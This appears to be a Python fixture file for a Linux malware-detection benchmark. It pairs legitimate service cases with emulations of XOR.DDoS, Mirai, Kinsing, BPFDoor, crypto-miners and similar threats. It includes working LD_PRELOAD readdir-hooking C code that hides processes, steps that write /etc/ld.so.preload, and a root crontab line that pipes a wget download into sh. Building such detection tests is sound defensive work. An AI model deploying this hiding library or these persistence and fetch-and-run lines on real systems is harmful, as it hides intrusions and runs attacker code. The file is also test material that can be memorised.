    Case("restic_cron", "legit", "a nightly restic backup run by cron from /home/backup/bin",
         [Proc("/home/backup/bin/restic", f"client --tcp {P(0, 160)} 443 4",
               ["/home/backup/bin/restic", "backup", "/srv", "--repo", "s3:https://s3.example.net/backups"], uid=1002,
               cgroup="system.slice/cron.service", parent="shell",
               env={"HOME": "/home/backup", "LOGNAME": "backup", "PATH": "/usr/bin:/bin", "SHELL": "/bin/sh",
                    "RESTIC_PASSWORD_FILE": "/home/backup/.restic-pass"})],
         setup=["printf '15 3 * * * backup /home/backup/bin/restic backup /srv\\n' >/etc/cron.d/restic"]),
    Case("jmx_poller", "legit",
         "a monitoring agent of its own polling Java services' JMX port 9999, also a pool port",
         [Proc("/usr/local/bin/jmx-poller", f"client --tcp {P(3, 40)} 9999 1 --tcp {P(3, 41)} 9999 1",
               ["/usr/local/bin/jmx-poller", "--config", "/etc/jmx-poller.yml"], uid=994,
               cgroup="system.slice/jmx-poller.service", env=service_env("jmx-poller"))],
         setup=unit_file("jmx-poller", "/usr/local/bin/jmx-poller --config /etc/jmx-poller.yml", "jmx"),
         quick=True),
    Case("minecraft_tmux", "legit", "a Minecraft server on its own JDK in the mc user's home, under tmux",
         [Proc("/home/mc/jdk-21.0.1/bin/java", "client --listen 0.0.0.0 25565",
               ["java", "-Xmx6G", "-jar", "paper-1.20.4.jar", "nogui"], uid=1003,
               cgroup="user.slice/user-1003.slice/session-9.scope", parent="shell",
               env=user_env("mc", "/home/mc", TMUX="/tmp/tmux-1003/default,2049,0"))], inbound=[(25565, 6)]),
]

ROOT_ENV = user_env("root", "/root")
# libprocesshider's idea, as Symbiote does it: the agent's entries vanish from directory listings.
HIDER_C = r"""#define _GNU_SOURCE
#include <dirent.h>
#include <dlfcn.h>
#include <string.h>
struct dirent *readdir(DIR *d) {
    static struct dirent *(*real)(DIR *);
    if (!real) real = (struct dirent *(*)(DIR *))dlsym(RTLD_NEXT, "readdir");
    struct dirent *e;
    while ((e = real(d)) && strstr(e->d_name, "netmon")) {}
    return e;
}
"""
INTRUDER = "user.slice/user-0.slice/session-3.scope"  # a root SSH login: how most drops start

MALWARE = [
    Case("xorddos_tmp", "malware",
         "XOR.DDoS (as in the README's tour): a random 12-character name under /tmp, C2 and a telnet SYN scan",
         [Proc("/tmp/.ICE-unix-x/dmsFZqnoz13z", f"client --tcp {P(4, 1)} 3502 1 --scan {silent(1)} 23 300",
               ["dmsFZqnoz13z"], cgroup=INTRUDER, env=ROOT_ENV)], quick=True),
    Case("xorddos_respawn", "malware",
         "XOR.DDoS respawning every 2 s under new random 12-character names in /tmp",
         [Proc("/tmp/gH4kPq9ZxW2m", f"client --tcp {P(4, 2)} 3502 1 --respawn 12 --every 2 --dir /tmp --seed 11",
               ["gH4kPq9ZxW2m"], cgroup=INTRUDER, env=ROOT_ENV)], watch=6, respawn_dirs=["/tmp"], quick=True),
    Case("xorddos_usrbin", "malware",
         "XOR.DDoS installed: 10 random lowercase letters in /usr/bin, respawning, cron.hourly/gcc.sh, libudev.so",
         [Proc("/usr/bin/vkfjqbyqxr", f"client --tcp {P(4, 3)} 3502 1 --respawn 12 --every 2 --dir /usr/bin --seed 12",
               ["vkfjqbyqxr"], cgroup="system.slice/cron.service", env={"PATH": "/usr/bin:/bin"})],
         setup=["mkdir -p /etc/cron.hourly /etc/init.d",
                "printf '#!/bin/sh\\ncp /lib/libudev.so /lib/libudev.so.6\\n/lib/libudev.so.6\\n' >/etc/cron.hourly/gcc.sh",
                "chmod 755 /etc/cron.hourly/gcc.sh", "cp /run/ctg-bench/flow_fixture /lib/libudev.so",
                "printf '#!/bin/sh\\n# chkconfig: 12345 90 90\\n/usr/bin/vkfjqbyqxr\\n' >/etc/init.d/vkfjqbyqxr",
                "chmod 755 /etc/init.d/vkfjqbyqxr"],
         watch=6, respawn_dirs=["/usr/bin"]),
    Case("mirai", "malware",
         "Mirai: deletes its binary, random comm, raw socket, telnet scan of 23 and 2323, C2 on 23",
         [Proc("/var/tmp/dvrHelper", f"client --unlink --raw --tcp {P(4, 4)} 23 1 "
               f"--scan {silent(2)} 23 200 --scan {silent(3)} 2323 50", ["qbzkfmwpxecv"], comm="qbzkfmwpxecv", cgroup=INTRUDER,
               env={"PATH": "/usr/bin:/bin"})], quick=True),
    Case("gafgyt", "malware", "Gafgyt/Bashlite: an arch-named bot in a hidden /tmp directory, C2 on 666, telnet scan",
         [Proc("/tmp/.bins/x86_64", f"client --tcp {P(4, 5)} 666 1 --scan {silent(4)} 23 150", ["x86_64"],
               cgroup=INTRUDER, env=ROOT_ENV)]),
    Case("tsunami_fake_sshd", "malware", "Tsunami/Kaiten IRC bot posing as sshd from /tmp/.s",
         [Proc("/tmp/.s/sshd", f"client --tcp {P(4, 6)} 6667 1", ["sshd: root@pts/0"], cgroup=INTRUDER,
               env=ROOT_ENV)], quick=True),
    Case("kinsing", "malware",
         "Kinsing: kdevtmpfsi miner and the kinsing agent in /tmp, /etc/ld.so.preload rootkit, root crontab",
         [Proc("/tmp/kdevtmpfsi", f"client --tcp {P(4, 7)} 45700 2", ["/tmp/kdevtmpfsi"],
               cgroup="system.slice/cron.service", env={"PATH": "/usr/bin:/bin"}),
          Proc("/tmp/kinsing", f"client --tcp {P(4, 8)} 80 1", ["/tmp/kinsing"], cgroup="system.slice/cron.service",
               env={"PATH": "/usr/bin:/bin"})],
         setup=["cp /usr/lib/x86_64-linux-gnu/libdl.so.2 /etc/libsystem.so",
                "mkdir -p /var/spool/cron/crontabs",
                f"printf '* * * * * wget -q -O - http://{P(4, 8)}/d.sh | sh > /dev/null 2>&1\\n' "
                ">/var/spool/cron/crontabs/root"],
         after=["echo /etc/libsystem.so >/etc/ld.so.preload"], quick=True),
    Case("teamtnt_container_miner", "malware",
         "TeamTNT: xmrig renamed dbused inside a compromised container, mining to a pool on 3333",
         [Proc("/tmp/.ICE-unix/.../dbused", f"client --tcp {P(4, 9)} 3333 2", ["dbused", "-c", "config.json"],
               cgroup=f"system.slice/docker-{hexid('tnt')}.scope", env={"PATH": PATH, "HOSTNAME": hexid("tnt", 12)},
               container=f"/var/lib/docker/overlay2/{hexid('tnt-layer')}/merged")],
         setup=rootfs(f"/var/lib/docker/overlay2/{hexid('tnt-layer')}/merged", "dpkg", "libc6",
                      ["/usr/lib/x86_64-linux-gnu/libc.so.6"]), quick=True),
    Case("xmrig_devshm", "malware", "xmrig dropped in /dev/shm by an exploited web server (www-data), pools 14444 and 4444",
         [Proc("/dev/shm/.x/xmrig", f"client --tcp {P(4, 10)} 14444 1 --tcp {P(4, 11)} 4444 1",
               ["./xmrig", "-o", "pool.example:14444", "--donate-level", "1"], uid=33,
               cgroup="system.slice/apache2.service", env={"PATH": "/usr/bin:/bin", "APACHE_RUN_USER": "www-data"})],
         quick=True),
    Case("outlaw_kswapd0", "malware",
         "Outlaw: xmrig as kswapd0 (a kernel thread's name) from ~/.configrc of a brute-forced account",
         [Proc(f"{HOME}/.configrc/a/kswapd0", f"client --tcp {P(4, 12)} 7777 1", ["kswapd0"], uid=DEV,
               cgroup="user.slice/user-1000.slice/session-7.scope", env=DEV_ENV)],
         setup=[f"mkdir -p /var/spool/cron/crontabs && printf '5 6 * * 0 {HOME}/.configrc/a/upd\\n' "
                ">/var/spool/cron/crontabs/dev"]),
    Case("outlaw_ssh_scanner", "malware", "Outlaw's tsm brute forcer: SSH to 200 hosts that never answer",
         [Proc("/tmp/.X25-unix/.rsync/c/tsm64", f"client --scan {silent(5)} 22 200",
               ["./tsm64", "-t", "600", "-f", "1", "-s", "12", "-S", "10", "-p", "0", "-d", "1", "p", "ip"], uid=DEV,
               cgroup="user.slice/user-1000.slice/session-7.scope", env=DEV_ENV)]),
    Case("bpfdoor", "malware",
         "BPFDoor: runs from /dev/shm then deletes itself, poses as dbus-daemon, a packet socket, no connections",
         [Proc("/dev/shm/kdmtmpflush", "client --unlink --packet",
               ["dbus-daemon --system"], comm="dbus-daemon", cgroup="system.slice/cron.service", env={"PATH": "/usr/bin:/bin"})],
         quick=True),
    Case("kaiji", "malware", "Kaiji: a Go bot copied to /etc/32678, SSH brute force fan-out, init.d persistence",
         [Proc("/etc/32678", f"client --tcp {P(4, 13)} 443 1 --scan {silent(6)} 22 100", ["/etc/32678"],
               cgroup="system.slice/cron.service", env={"PATH": "/usr/bin:/bin"})],
         setup=["mkdir -p /etc/init.d", "printf '#!/bin/sh\\n/etc/32678 &\\n' >/etc/init.d/linux_kill", "chmod 755 /etc/init.d/linux_kill",
                "printf '*/1 * * * * root /.mod\\n' >>/etc/crontab"]),
    Case("dofloo", "malware", "Dofloo/AESDDoS: /etc/sfewfesfs started from rc.local, raw socket for floods",
         [Proc("/etc/sfewfesfs", f"client --raw --tcp {P(4, 14)} 8080 1", ["/etc/sfewfesfs"],
               cgroup="system.slice/rc-local.service", env={"PATH": "/usr/bin:/bin"})],
         setup=["printf '#!/bin/sh -e\\n/etc/sfewfesfs &\\nexit 0\\n' >/etc/rc.local", "chmod 755 /etc/rc.local"]),
    Case("muhstik", "malware", "Muhstik: an IRC bot named pty3 in /tmp, scanning web servers",
         [Proc("/tmp/pty3", f"client --tcp {P(4, 15)} 6667 1 --scan {silent(7)} 80 150", ["/tmp/pty3"],
               cgroup="system.slice/cron.service", env={"PATH": "/usr/bin:/bin"})]),
    Case("memfd_loader", "malware", "a fileless loader: the payload runs from a memfd, C2 on 443",
         [Proc("/var/tmp/.font-unix/ld", f"client --memfd x --tcp {P(4, 16)} 443 1", ["/var/tmp/.font-unix/ld"],
               cgroup=INTRUDER, env=ROOT_ENV)]),
    Case("fake_kworker", "malware", "a backdoor posing as a kernel thread ([kworker/0:2]) with a binary in /var/tmp",
         [Proc("/var/tmp/.X11-unix/.k/kthreadd", f"client --tcp {P(4, 17)} 8443 1",
               ["[kworker/0:2]"], comm="kworker/0:2", cgroup=INTRUDER, env=ROOT_ENV)], quick=True),
    Case("ld_preload_backdoor", "malware",
         "a Symbiote-style backdoor: LD_PRELOAD of a hiding library, an unpackaged agent in /usr/local/bin",
         [Proc("/usr/local/bin/netmon", f"client --tcp {P(4, 18)} 443 1", ["/usr/local/bin/netmon", "-d"],
               cgroup=INTRUDER, env=dict(ROOT_ENV, LD_PRELOAD="/usr/local/lib/libnetstat.so"))],
         setup=["mkdir -p /usr/local/lib", f"cat >/tmp/hide.c <<'EOF'\n{HIDER_C}EOF",
                "cc -shared -fPIC -O2 -o /usr/local/lib/libnetstat.so /tmp/hide.c -ldl", "rm /tmp/hide.c"],
         quick=True),
    Case("systemd_miner_8220", "malware",
         "8220 Gang: a miner installed as a systemd service (sysupdate), mining to a pool on 3333",
         [Proc("/usr/local/bin/sysupdate", f"client --tcp {P(4, 19)} 3333 1 --burn 4",
               ["/usr/local/bin/sysupdate"],
               cgroup="system.slice/sysupdate.service", env=service_env("sysupdate"))],
         setup=unit_file("sysupdate", "/usr/local/bin/sysupdate"), quick=True),
]

CASES = LEGIT + MALWARE
